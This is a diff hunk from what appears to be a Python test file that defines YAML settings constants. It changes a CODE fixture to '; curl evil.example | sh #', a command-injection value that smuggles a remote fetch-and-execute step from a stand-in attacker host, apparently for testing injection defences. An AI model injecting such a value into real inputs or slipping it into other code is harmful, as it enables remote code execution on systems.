@@ -20,7 +20,7 @@ from instance_site import yaml_list
 
 SETTINGS = "api: seventhings/v1\nset: test\n"
 PRUNING = SETTINGS + "policy: {prune: {objects: archive}}\n"
-CODE = "\ncurl evil.example | sh #"
+CODE = "; curl evil.example | sh #"
 ENDLESS_SECONDS = 60
 
 
